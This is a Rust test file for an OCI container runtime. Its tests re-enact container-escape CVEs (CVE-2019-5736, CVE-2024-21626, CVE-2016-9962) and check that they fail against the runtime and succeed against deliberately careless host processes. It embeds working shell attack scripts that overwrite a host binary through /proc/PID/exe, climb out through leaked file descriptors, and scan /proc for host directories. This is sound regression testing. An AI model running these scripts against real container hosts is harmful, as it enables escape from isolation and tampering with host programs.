//! Ways out of a container through the runtime's own processes: its program file, its descriptors, its memory.
//!
//! Each attack is also made on a process of the host that is as careless as the runtimes once were.

use std::fs;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::json;
use stockade_tests::{Bundle, Scratch, bin, rootfs, wait_until};

const PATIENCE: Duration = Duration::from_secs(30);

/// A container whose root has every capability, as the attacker of a `--privileged` one has.
fn privileged(bundle: Bundle) -> Bundle {
    let all = ["CAP_SYS_PTRACE", "CAP_SYS_ADMIN", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_KILL"];
    let sets = json!({"bounding": all, "effective": all, "permitted": all});
    bundle.set("/process/capabilities", sets)
}

/// A running container whose init sleeps.
struct Prison<'a> {
    scratch: &'a Scratch,
    id: String,
    bundle: Bundle,
}

impl<'a> Prison<'a> {
    fn start(scratch: &'a Scratch, name: &str) -> Self {
        Self::of(scratch, name, privileged(scratch.bundle(&["sleep", "1000"])))
    }

    fn of(scratch: &'a Scratch, name: &str, bundle: Bundle) -> Self {
        let id = scratch.id(name);
        scratch.oci(&["run", "--detach", "--bundle", bundle.path().to_str().unwrap(), &id]).ok();
        Self { scratch, id, bundle }
    }

    fn pid(&self) -> String {
        self.scratch.oci(&["state", &self.id]).ok().json()["pid"].to_string()
    }

    fn exec(&self, args: &[&str]) -> stockade_tests::Cmd {
        self.scratch.oci(&[&["exec", self.id.as_str()], args].concat())
    }

    fn file(&self, name: &str) -> PathBuf {
        self.bundle.rootfs().join(name)
    }

    /// Starts a script inside that no process of the runtime waits for: one would keep the program from being written.
    fn detached_attacker(&self, script: &str) {
        self.scratch.oci(&["exec", "--detach", &self.id, "sh", "-c", &format!("touch /ready; {script}")]).ok();
        wait_until("the attacker to begin", PATIENCE, || self.file("ready").exists());
    }

    /// Waits until the attacker has tried something, and is at nothing any more.
    fn wait_for_attempts(&self) {
        let lines = |name| fs::read_to_string(self.file(name)).unwrap_or_default().lines().count();
        wait_until("the attacker to have tried", PATIENCE, || lines("seen") > 0 && lines("seen") == lines("tried"));
    }

    /// Starts a script inside and waits until it says that it is ready.
    fn attacker(&self, script: &str) -> stockade_tests::Running {
        let attacker = self.exec(&["sh", "-c", &format!("echo ready; {script}")]).spawn();
        wait_until("the attacker to begin", PATIENCE, || attacker.stdout().contains("ready"));
        attacker
    }
}

/// A program of the host that somebody careless runs in the container's pid namespace.
fn careless(prison: &Prison<'_>, program: &Path, args: &[&str]) -> Child {
    let mut nsenter = Command::new("nsenter");
    nsenter.args(["--target", &prison.pid(), "--pid", "--"]).arg(program).args(args);
    nsenter.stdin(Stdio::null()).stdout(Stdio::null()).spawn().expect("start nsenter")
}

/// Waits for a process that runs a program of the host, holds the program, ends the process, writes to the program
/// as soon as no other process runs it, the one that waited for the first among them. A line in /seen begins an
/// attempt, one in /tried ends it.
/// Only the two programs that the test has copied for this are ever touched; the runtime's own view of itself is a
/// mount without a path, or a memfd.
const OVERWRITE: &str = r#"
    while [ ! -e /done ]; do
        for p in /proc/[0-9]*; do
            [ -z "$only" ] || (tr '\0' ' ' < $p/cmdline | grep -q "^$only ") 2>/dev/null || continue
            case "$(readlink $p/exe)" in / | /memfd:* | */stockade-oci | */victim/busybox) ;; *) continue ;; esac
            (
                exec 9< $p/exe || exit
                echo $p >> /seen
                kill -9 ${p#/proc/}
                while [ -e $p/exe ] && [ -n "$(readlink $p/exe)" ]; do sleep 0.01; done
                for try in $(seq 40); do
                    echo overwritten > /proc/self/fd/9 && touch /hit && break
                    sleep 0.025
                done
                echo $p >> /tried
            ) 2>/dev/null
        done
    done
"#;

/// A runtime that an attack which succeeds may spoil.
fn copy_of_the_runtime() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let runtime = dir.path().join("stockade-oci");
    fs::copy(bin("stockade-oci"), &runtime).unwrap();
    (dir, runtime)
}

/// A program that [`OVERWRITE`] may spoil.
fn victim(scratch: &Scratch) -> PathBuf {
    let victim = scratch.path("victim/busybox");
    fs::create_dir(scratch.path("victim")).unwrap();
    fs::copy(rootfs("busybox").join("bin/busybox"), &victim).unwrap();
    victim
}

/// CVE-2019-5736: a container makes the runtime run itself inside, as entry point, by exec or as a script's
/// interpreter, and writes to it through /proc/PID/exe.
#[test]
fn cve_2019_5736_the_runtimes_program_cannot_be_overwritten() {
    let (_copies, runtime) = copy_of_the_runtime();
    let scratch = Scratch::with_binaries(runtime.parent().unwrap().to_owned());
    let before = fs::read(&runtime).unwrap();
    let prison = Prison::start(&scratch, "prison");
    prison.detached_attacker(OVERWRITE);

    // The program that ends up running is the runtime; it waits in a fifo for resources, and can be looked at.
    Command::new("mkfifo").arg(prison.file("fifo")).status().unwrap();
    fs::write(prison.file("script"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(prison.file("script"), fs::Permissions::from_mode(0o755)).unwrap();
    for args in [&["/proc/self/exe", "update", "-r", "/fifo", "x"][..], &["/script"], &["/proc/self/exe", "--version"]]
    {
        for _ in 0..3 {
            prison.exec(args).timeout(PATIENCE).run();
        }
    }
    prison.wait_for_attempts();
    assert!(!prison.file("hit").exists(), "the attacker wrote to the runtime");
    assert!(fs::read(&runtime).unwrap() == before, "the runtime's program has changed");

    let victim = victim(&scratch);
    let mut victim_process = careless(&prison, &victim, &["sleep", "1000"]);
    wait_until("the attack on a careless program", PATIENCE, || prison.file("hit").exists());
    assert_eq!(fs::read_to_string(&victim).unwrap(), "overwritten\n");
    let _ = victim_process.wait();
    fs::write(prison.file("done"), "").unwrap();
}

/// CVE-2019-5736, the first form: the image's entry point is a link to the runtime itself, and the attacker is in
/// another container of the same process namespace.
#[test]
fn cve_2019_5736_the_runtime_as_entry_point() {
    let (_copies, runtime) = copy_of_the_runtime();
    let scratch = Scratch::with_binaries(runtime.parent().unwrap().to_owned());
    let before = fs::read(&runtime).unwrap();
    let prison = Prison::start(&scratch, "prison");
    prison.detached_attacker(&format!("only=/sleep; {OVERWRITE}"));
    let joined = json!({"type": "pid", "path": format!("/proc/{}/ns/pid", prison.pid())});

    // Debian's root, where a runtime that is not linked statically finds its libraries.
    let bundle = privileged(Bundle::debian(&["/sleep", "update", "-r", "/fifo", "x"]));
    symlink("/proc/self/exe", bundle.rootfs().join("sleep")).unwrap();
    Command::new("mkfifo").arg(bundle.rootfs().join("fifo")).status().unwrap();
    let bundle = bundle.edit(|config| {
        let namespaces = config["linux"]["namespaces"].as_array_mut().unwrap();
        *namespaces.iter_mut().find(|namespace| namespace["type"] == "pid").unwrap() = joined;
    });
    let path = bundle.path().to_str().unwrap();
    scratch.oci(&["run", "--bundle", path, &scratch.id("entry")]).timeout(PATIENCE).exits(137);
    prison.wait_for_attempts();
    assert!(!prison.file("hit").exists(), "the attacker wrote to the runtime");
    assert!(fs::read(&runtime).unwrap() == before, "the runtime's program has changed");

    // A runtime that enters the root and executes the entry point from its own file.
    let victim = victim(&scratch);
    symlink("/proc/self/exe", prison.file("sleep")).unwrap();
    let root = format!("/proc/{}/root", prison.pid());
    let mut victim_process = careless(&prison, &victim, &["chroot", &root, "/sleep", "1000"]);
    wait_until("the attack on a careless runtime", PATIENCE, || prison.file("hit").exists());
    assert_eq!(fs::read_to_string(&victim).unwrap(), "overwritten\n");
    let _ = victim_process.wait();
    fs::write(prison.file("done"), "").unwrap();
}

/// Tries every descriptor as a way to a file of the host's, whose path is `$0`.
const CLIMB: &str = r#"
    for fd in /proc/self/fd/* /proc/self/cwd; do
        cat "$fd/../../../../../../..$0" "$fd/$0" 2>/dev/null
    done
    cat "../../../../../../../../..$0" 2>/dev/null
    true
"#;

/// CVE-2024-21626: a descriptor of a host directory is left open, or taken as the working directory.
#[test]
fn cve_2024_21626_no_descriptor_leads_out() {
    let scratch = Scratch::new();
    let mark = scratch.path("mark");
    fs::write(&mark, "on the host").unwrap();
    let mark = mark.to_str().unwrap();
    let run = |cwd: &str| {
        let bundle = privileged(scratch.bundle(&["sh", "-c", CLIMB, mark])).set("/process/cwd", json!(cwd));
        scratch.oci(&["run", "--bundle", bundle.path().to_str().unwrap(), &scratch.id("climb")]).run().stdout
    };
    assert_eq!(run("/"), "");
    for fd in 3..12 {
        assert!(!run(&format!("/proc/self/fd/{fd}")).contains("on the host"), "by descriptor {fd}");
    }
    let prison = Prison::start(&scratch, "prison");
    symlink("/proc/self/fd/7", prison.file("link")).unwrap();
    for cwd in ["/proc/self/fd/3", "/proc/self/fd/5", "/proc/self/fd/7", "/proc/self/fd/9", "/link"] {
        let args = ["exec", "--cwd", cwd, &prison.id, "sh", "-c", CLIMB, mark];
        assert!(!scratch.oci(&args).run().stdout.contains("on the host"), "by exec in {cwd}");
    }
    assert!(leaky_run(&scratch, mark).contains("on the host"), "the attack works with a descriptor of the host");
}

/// CVE-2024-21626, by the making of a working directory that is absent: no descriptor that the init still has while it
/// builds the root may lead to the host's directories.
#[test]
fn cve_2024_21626_no_working_directory_is_made_on_the_host() {
    let scratch = Scratch::new();
    let prison = Prison::start(&scratch, "prison");
    let unique = format!("/tmp/{}-escape", scratch.id("cwd"));
    for fd in 3..=30 {
        let cwd = format!("/proc/self/fd/{fd}/../../../../../..{unique}/pwned");
        let bundle = privileged(scratch.bundle(&["true"])).set("/process/cwd", json!(cwd));
        scratch.oci(&["run", "--bundle", bundle.path().to_str().unwrap(), &scratch.id("made")]).run();
        scratch.oci(&["exec", "--cwd", &cwd, &prison.id, "true"]).run();
        let escaped = Path::new(&unique).exists();
        let _ = fs::remove_dir_all(&unique);
        assert!(!escaped, "descriptor {fd} led to the host's /tmp");
    }
    let bundle = scratch.bundle(&["pwd"]).set("/process/cwd", json!("/made/here"));
    let output = scratch.oci(&["run", "--bundle", bundle.path().to_str().unwrap(), &scratch.id("plain")]).ok();
    assert_eq!(output.out(), "/made/here");
}

/// The same with a directory of the host handed in on purpose.
fn leaky_run(scratch: &Scratch, mark: &str) -> String {
    let dir = fs::File::open("/").unwrap();
    let bundle = privileged(scratch.bundle(&["sh", "-c", CLIMB, mark]));
    let (path, id) = (bundle.path().to_str().unwrap(), scratch.id("leaky"));
    let oci = scratch.oci(&["run", "--preserve-fds", "1", "--bundle", path, &id]).into_inner();
    let mut command = vec![oci.get_program().to_owned()];
    command.extend(oci.get_args().map(ToOwned::to_owned));
    let shell = format!("exec 3< /proc/{}/fd/{}; exec \"$@\"", std::process::id(), dir.as_raw_fd());
    let output = Command::new("sh").args(["-c", &shell, "sh"]).args(command).output().unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Looks at the descriptors of every process that comes and goes.
const WATCH: &str = r#"
    while [ ! -e /done ]; do
        for fd in /proc/[0-9]*/fd/*; do
            if [ "$(cat $fd/secret 2>/dev/null)" = "on the host" ]; then touch /hit; fi
        done
    done
"#;

/// CVE-2016-9962: a process that joins the container can be traced by it before it has let go of the host's files.
#[test]
fn cve_2016_9962_a_joining_process_shows_nothing_of_the_host() {
    let scratch = Scratch::new();
    let prison = Prison::start(&scratch, "prison");
    let state = scratch.oci_root().join(&prison.id);
    for dir in [&state, &scratch.oci_root(), prison.bundle.path()] {
        fs::write(dir.join("secret"), "on the host").unwrap();
    }
    let attacker = prison.attacker(WATCH);
    for _ in 0..25 {
        prison.exec(&["true"]).ok();
    }
    assert!(!prison.file("hit").exists(), "the attacker opened a directory of the runtime's");
    fs::remove_file(scratch.oci_root().join("secret")).unwrap();

    let shell = format!("exec 9< {}; sleep 1000", state.display());
    let mut leaky = careless(&prison, Path::new("/bin/sh"), &["-c", &shell]);
    wait_until("the attack on a careless process", PATIENCE, || prison.file("hit").exists());
    fs::write(prison.file("done"), "").unwrap();
    attacker.wait();
    scratch.oci(&["delete", "--force", &prison.id]).ok();
    let _ = leaky.wait();
}

/// Looks for a file of the host, `SECRET`, in the root and the working directory of every process that comes and goes.
const LOOK: &str = r#"
    while [ ! -e /done ]; do
        for p in /proc/[0-9]*; do
            if [ -e $p/root$SECRET ] || [ -e $p/cwd$SECRET ]; then touch /hit; fi
        done
    done
"#;

impl Prison<'_> {
    /// Looks for the file from inside while `meanwhile` runs, then while a careless process of the host is there.
    fn look_for(&self, secret: &Path, meanwhile: impl Fn(), careless_command: &[&str]) {
        fs::write(secret, "on the host").unwrap();
        let attacker = self.attacker(&format!("SECRET={}; {{ {LOOK} }} & {LOOK}", secret.display()));
        (0..60).for_each(|_| meanwhile());
        assert!(!self.file("hit").exists(), "the attacker reached the host's root");
        let mut careless = careless(self, Path::new(careless_command[0]), &careless_command[1..]);
        wait_until("the attack on a careless process", PATIENCE, || self.file("hit").exists());
        fs::write(self.file("done"), "").unwrap();
        attacker.wait();
        self.scratch.oci(&["delete", "--force", &self.id]).ok();
        let _ = careless.wait();
    }
}

/// CVE-2016-9962 by another way: the directories of a process that joins, as /proc shows them to an attacker who may
/// trace it (CAP_SYS_PTRACE), are the container's from its birth.
#[test]
fn cve_2016_9962_a_joining_process_is_born_inside() {
    let scratch = Scratch::new();
    let prison = Prison::start(&scratch, "prison");
    prison.look_for(&scratch.path("secret"), || drop(prison.exec(&["true"]).ok()), &["sleep", "1000"]);
}

/// CVE-2016-9962 on `create`: an init in a user namespace of its own shares the attacker's pid namespace. Root of the
/// host's user namespace has every capability over it, without any of its own (user_namespaces(7)).
#[test]
fn cve_2016_9962_an_init_in_a_shared_pid_namespace_is_out_of_reach() {
    let scratch = Scratch::new();
    let prison = Prison::of(&scratch, "prison", scratch.bundle(&["sleep", "1000"]));
    let joined = json!({"type": "pid", "path": format!("/proc/{}/ns/pid", prison.pid())});
    let bundle = scratch.bundle(&["true"]).edit(|config| {
        let namespaces = config["linux"]["namespaces"].as_array_mut().unwrap();
        *namespaces.iter_mut().find(|namespace| namespace["type"] == "pid").unwrap() = joined;
        namespaces.push(json!({"type": "user"}));
        for key in ["uidMappings", "gidMappings"] {
            config["linux"][key] = json!([{"containerID": 0, "hostID": 0, "size": 1000}]);
        }
        // The pid namespace belongs to the host's user namespace, whose root alone may mount its procfs.
        config["mounts"].as_array_mut().unwrap().retain(|mount| mount["type"] != "proc");
        config["linux"]["maskedPaths"] = json!([]);
        config["linux"]["readonlyPaths"] = json!([]);
    });
    let (path, id) = (bundle.path().to_str().unwrap(), scratch.id("neighbour"));
    let run = || drop(scratch.oci(&["run", "--bundle", path, &id]).ok());
    prison.look_for(&scratch.path("secret"), run, &["unshare", "--user", "--map-root-user", "sleep", "1000"]);
}
